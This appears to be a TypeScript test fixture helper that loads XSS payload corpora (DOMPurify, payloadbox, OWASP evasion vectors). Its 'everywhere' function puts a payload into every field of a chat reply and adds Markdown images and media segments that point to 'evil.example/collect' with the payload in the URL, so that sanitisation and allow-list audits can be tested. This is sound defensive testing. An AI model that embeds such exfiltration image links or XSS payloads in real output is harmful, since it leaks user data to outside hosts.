import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { ReplyResult } from '../../src/results/replyResult';
import type { SegmentReply } from '../../src/segments/segmentCatalog';
import { completedReply } from './completedReply';

// Read from the project root: happy-dom gives modules an http: import.meta.url.
const dir = join(process.cwd(), 'test/fixtures/xss/');

/** The XSS corpora of test/fixtures/xss, by name. */
export const XSS_CORPORA: readonly (readonly [string, readonly string[]])[] = [
  [
    'DOMPurify fixtures',
    (
      JSON.parse(readFileSync(`${dir}dompurify/dompurify-expect.json`, 'utf8')) as {
        payload: string;
      }[]
    ).map((c) => c.payload),
  ],
  [
    'payloadbox list',
    [
      ...new Set(
        readFileSync(`${dir}payloadbox/xss-payload-list.txt`, 'utf8')
          .split('\n')
          .filter((line) => line.trim() !== ''),
      ),
    ],
  ],
  [
    'OWASP evasion vectors',
    (
      JSON.parse(readFileSync(`${dir}owasp/xss-filter-evasion-vectors.json`, 'utf8')) as {
        payload: string;
      }[]
    ).map((c) => c.payload),
  ],
];

/** The host the audits allow images from. */
export const ALLOWED_IMAGE_HOST = 'img.allowed.test';

/** A completed result carrying `value`, as `checkReply` would return it. */
export const completed = completedReply;

/**
 * Every place a string can go in a reply, filled with one payload, plus the ways a reply could
 * make a browser fetch on its own: Markdown images (inline, reference, inside a link) and image,
 * audio and video segments pointing off the allow-list with the payload in the address.
 */
export function everywhere(payload: string): ReplyResult<SegmentReply> {
  const exfil = `https://evil.example/collect?d=${encodeURIComponent(payload)}`;
  return completed({
    segments: [
      { type: 'text', data: { text: payload } },
      { type: 'markdown', data: { content: payload } },
      { type: 'markdown', data: { content: `[link](${payload}) ![img](${payload}) <${payload}>` } },
      {
        type: 'markdown',
        data: {
          content: `![](${exfil}) [![x](${exfil})](https://example.com) ![r][ref]\n\n[ref]: ${exfil}`,
        },
      },
      { type: 'share', data: { url: payload, title: payload } },
      { type: 'image', data: { media: { kind: 'url', value: payload } } },
      { type: 'image', data: { media: { kind: 'url', value: exfil } } },
      { type: 'audio', data: { media: { kind: 'url', value: exfil } } },
      { type: 'video', data: { media: { kind: 'url', value: exfil } } },
      { type: 'video', data: { media: { kind: 'base64', value: payload } } },
      { type: 'file', data: { media: { kind: 'url', value: payload } } },
      { type: 'mention', data: { target: payload } },
      { type: 'face', data: { id: payload } },
      { type: 'reply', data: { message_id: payload } },
    ],
  });
}
